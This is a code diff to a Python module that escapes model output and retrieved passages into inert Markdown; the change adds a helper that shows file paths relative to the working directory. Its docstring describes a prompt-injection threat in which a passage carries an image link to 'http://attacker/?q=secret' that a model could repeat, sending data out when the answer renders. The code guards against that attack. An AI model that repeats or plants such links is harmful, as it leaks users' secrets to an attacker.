@@ -1,4 +1,5 @@
-"""Model output and passages -> Markdown that cannot fetch anything or run anything.
+"""Model output and passages -> Markdown that cannot fetch anything or run anything (and paths
+as the terminal shows them).
 
 A passage can carry an injected ``![](http://attacker/?q=secret)``; a model that repeats it would
 make the browser fetch the URL the moment the answer is rendered. Escaping is applied per
@@ -9,6 +10,7 @@ text is split.
 from __future__ import annotations
 
 import re
+from pathlib import Path
 
 from .focus import reflow
 from .prompt import quote
@@ -40,3 +42,12 @@ def highlighted_passage(passage: str, answer: str) -> str:
         return literal(flowed)
     after = at + len(sentence)
     return literal(flowed[:at]) + ":yellow-background[**" + literal(sentence) + "**]" + literal(flowed[after:])
+
+
+def display_path(path: str) -> str:
+    """A path relative to the working directory when it lies below it, else as stored: what
+    the terminal shows for a document."""
+    try:
+        return str(Path(path).relative_to(Path.cwd()))
+    except ValueError:
+        return path
